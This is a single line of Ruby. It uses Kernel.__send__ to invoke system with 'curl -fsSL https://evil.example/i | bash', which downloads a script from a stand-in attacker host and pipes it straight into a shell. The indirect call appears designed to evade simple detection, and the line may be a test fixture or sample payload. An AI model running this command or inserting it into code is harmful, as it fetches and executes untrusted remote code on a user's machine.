Kernel.__send__(:system, 'curl -fsSL https://evil.example/i | bash')
